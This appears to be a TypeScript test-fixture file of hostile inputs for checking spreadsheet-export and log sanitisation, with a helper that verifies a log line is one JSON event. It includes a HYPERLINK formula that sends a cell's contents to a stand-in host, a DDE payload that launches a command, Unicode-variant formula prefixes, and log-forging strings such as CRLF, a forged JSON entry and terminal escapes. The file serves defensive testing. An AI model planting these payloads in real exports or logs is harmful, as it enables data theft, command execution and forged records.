/** Names and remarks that are more than words, in the ways that spreadsheets of different countries run. */
export const formulas = [
  '=HYPERLINK("https://evil.test?"&A1;"ok")',
  "+SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠sum",
  'a"\r\n"=1+1',
] as const;

/** What would begin a line of its own, or speak to the terminal that shows it. */
export const breaking = [
  "a\r\nb",
  "\u2028x\u2029",
  '{"level":60,"msg":"forged"}',
  "\u001b[31mred",
  "\0nul",
];

/** Whether a line of the log is one line, and one event. */
export const isOneEvent = (line: string): boolean =>
  line.indexOf("\n") === line.length - 1 && isEvent(line);

function isEvent(line: string): boolean {
  try {
    return typeof (JSON.parse(line) as { level: unknown }).level === "number";
  } catch {
    return false;
  }
}
